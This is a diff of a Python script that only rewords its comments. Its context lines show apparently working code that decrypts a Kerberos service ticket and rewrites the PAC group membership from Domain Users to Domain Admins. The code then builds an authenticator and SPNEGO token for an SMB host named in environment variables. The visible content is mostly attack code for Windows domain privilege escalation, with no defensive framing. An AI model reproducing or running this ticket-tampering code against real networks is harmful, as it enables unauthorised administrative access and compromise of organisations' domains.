@@ -23,9 +23,9 @@ from pyasn1.type.univ import noValue
 
 import raw
 
-# Key usage numbers, RFC 4120 section 7.5.1.
+# Key usage numbers of the ticket and of the authenticator (RFC 4120 section 7.5.1).
 TICKET, AUTHENTICATOR = 2, 11
-# The identifier of AP-REQs in tokens, RFC 4121 section 4.1.
+# The bytes that mark an AP-REQ in a token (RFC 4121 section 4.1).
 KRB5_AP_REQ = b"\x01\x00"
 
 HOST, REALM = os.environ["SMB_HOST"], os.environ["SMB_REALM"]
@@ -49,7 +49,7 @@ def altered(ticket):
     key = Key(etype, block["keyvalue"]["data"])
     cipher = _enctype_table[etype]
     plain = cipher.decrypt(key, TICKET, bytes(part["cipher"]))
-    # GROUP_MEMBERSHIP of MS-PAC 2.2.2: Domain Users becomes Domain Admins.
+    # In GROUP_MEMBERSHIP (MS-PAC 2.2.2) replace the group Domain Users by Domain Admins.
     before, after = struct.pack("<II", 513, 7), struct.pack("<II", 512, 7)
     if plain.count(before) != 1:
         raise SystemExit("the PAC does not have the group Domain Users once")
@@ -80,7 +80,7 @@ def token(asn1_ticket, session_key, user):
     request["authenticator"]["cipher"] = cipher.encrypt(session_key, AUTHENTICATOR, encoder.encode(authenticator), None)
     init = SPNEGO_NegTokenInit()
     init["MechTypes"] = [TypesMech["MS KRB5 - Microsoft Kerberos 5"]]
-    # RFC 4121 section 4.1: the token has its mechanism and its kind before it.
+    # RFC 4121 section 4.1: the mechanism and the kind come first in the token.
     mechanism = bytes([ASN1_OID]) + asn1encode(TypesMech["KRB5 - Kerberos 5"])
     init["MechToken"] = bytes([ASN1_AID]) + asn1encode(mechanism + KRB5_AP_REQ + encoder.encode(request))
     return init.getData()
